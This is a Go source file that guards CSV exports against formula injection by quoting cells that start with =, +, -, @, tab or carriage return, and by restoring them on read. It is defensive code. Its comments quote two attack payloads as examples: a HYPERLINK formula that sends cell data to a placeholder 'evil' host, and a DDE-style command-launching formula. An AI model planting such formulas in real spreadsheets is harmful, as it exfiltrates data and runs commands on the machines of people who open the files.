package output

import "strings"

// Spreadsheets treat a cell that starts with = + - or @ as a formula, and
// some strip a leading tab or CR first, so a stored name such as
// =HYPERLINK("http://evil/?"&A1) in a CSV export would run when the sheet
// is opened (CSV injection). Every CSV cell custos writes goes through
// NeutraliseCell and every CSV cell it reads through RestoreCell, so no
// command can forget either side.
//
// The rule is OWASP's: prefix such a cell with a single quote, which
// spreadsheets take as "this is text" and do not show. It applies to every
// cell, negative numbers included ("-5" is written '-5): telling a number
// from a formula such as -2+3 or -cmd|' /C calc'!A0 is the guess the rule
// exists to avoid, and the spreadsheet still shows -5.

// NeutraliseCell returns s prefixed with ' when a spreadsheet would take
// it as a formula. A value that already looks neutralised ('=x, stored
// with its quote) gets one more, so that RestoreCell gives it back whole.
func NeutraliseCell(s string) string {
	if formulaStart(strings.TrimLeft(s, "'")) {
		return "'" + s
	}
	return s
}

// RestoreCell undoes NeutraliseCell: it strips one leading ' only when
// the rest, after any further quotes, starts with a formula character, so
// a cell that merely begins with a quote ('tis) is read as written.
func RestoreCell(s string) string {
	if len(s) > 1 && s[0] == '\'' && formulaStart(strings.TrimLeft(s[1:], "'")) {
		return s[1:]
	}
	return s
}

func formulaStart(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}
